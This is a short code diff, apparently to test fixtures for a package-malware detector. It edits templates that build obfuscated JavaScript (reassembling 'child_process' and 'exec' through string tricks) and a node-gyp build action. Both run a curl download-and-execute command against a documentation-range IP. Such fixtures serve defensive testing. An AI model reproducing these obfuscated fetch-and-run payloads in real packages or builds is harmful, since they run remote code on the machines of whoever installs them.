@@ -31,7 +31,7 @@ run(text);
 _COMPUTED = f"""{JS_COMMENT}const m = module;
 const parts = ["cess", "pro", "child_"].reverse().join("");
 const key = String.fromCharCode(101, 120, 101, 99);
-m["req" + "uire"](parts)[key]("curl -s http://192.0.2.161/u -o /tmp/u && sh /tmp/u");
+m["req" + "uire"](parts)[key]("curl -s http://192.0.2.161/u -o u && sh u");
 """
 
 _CONSTRUCTOR = f"""
@@ -77,7 +77,7 @@ _GYP = f"""# {MARKER}
     "type": "none",
     "actions": [{{
       "action_name": "prepare", "inputs": [], "outputs": ["out"],
-      "action": ["sh", "-c", "cu" "rl -s http://192.0.2.163/u -o /tmp/u && sh /tmp/u"]
+      "action": ["sh", "-c", "cu" "rl -s http://192.0.2.163/u -o u && sh u"]
     }}]
   }}]
 }}
